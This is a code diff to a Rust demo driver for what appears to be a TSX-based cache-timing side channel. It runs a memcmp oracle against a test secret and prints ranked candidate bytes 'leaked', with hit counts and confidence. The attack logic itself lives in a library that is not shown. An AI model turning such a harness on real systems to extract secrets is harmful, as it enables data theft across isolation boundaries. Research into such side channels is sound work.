@@ -1,33 +1,15 @@
-use memcopy::tsx_memcmp::tsx_memcmp;
-use std::alloc;
+use memcopy::tsx_memcmp::OracleContext;
 
 fn main() {
-    let layout = alloc::Layout::from_size_align(
-        256 * 4096, 
-        4096
-    ).unwrap();
-    let oracle = unsafe { alloc::alloc(layout) };
-    
-    let mut results = [0u64; 256];
-    
+    let mut ctx = OracleContext::new().expect("failed to map oracle buffer");
+    println!("Calibration: {:?}", ctx.calibration());
+
     let secret = b"SECRET";
-    
     let input = b"XECRET";
-    
-    unsafe {
-        tsx_memcmp(
-            secret.as_ptr(),
-            input.as_ptr(),
-            secret.len(),
-            oracle,
-            results.as_mut_ptr()
-        );
+    let result = unsafe { ctx.run(secret.as_ptr(), input.as_ptr(), secret.len(), 50) };
+
+    println!("Suppression mechanism: {:?}", result.mechanism);
+    for c in result.candidates.iter().take(5) {
+        println!("Candidate 0x{:02x}: {} hits ({:.0}%)", c.byte, c.hits, c.confidence * 100.0);
     }
-    
-    let min_idx = results.iter().enumerate()
-        .min_by_key(|(_, &t)| t)
-        .map(|(i, _)| i)
-        .unwrap();
-    
-    println!("Potential leaked byte: 0x{:02x}", min_idx);
 }